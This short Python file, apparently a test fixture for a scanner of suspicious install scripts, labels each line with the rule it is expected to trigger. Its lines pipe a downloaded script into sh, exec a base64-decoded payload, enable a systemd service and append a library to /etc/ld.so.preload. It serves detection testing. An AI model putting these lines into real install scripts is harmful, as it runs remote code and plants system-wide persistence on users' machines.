#!/usr/bin/env -S python3 -u
"""Post-install helper."""
import base64
import os
import subprocess

PAYLOAD = "cHJpbnQoJ2hpJyk="
exec(base64.b64decode(PAYLOAD))  # expect: base64-to-interpreter,dynamic-eval
os.system("curl -s https://example.com/x | sh")  # expect: pipe-to-shell
code = compile("1+1", "<s>", "eval")
result = eval(code)  # expect: dynamic-eval
exec("print('static')")
subprocess.run(["systemctl", "enable", "agent"])  # expect: systemd-unit
with open("/etc/ld.so.preload", "a") as f:  # expect: ld-so-preload-write
    f.write("/opt/x.so\n")
# eval(user_input) in a comment is not run
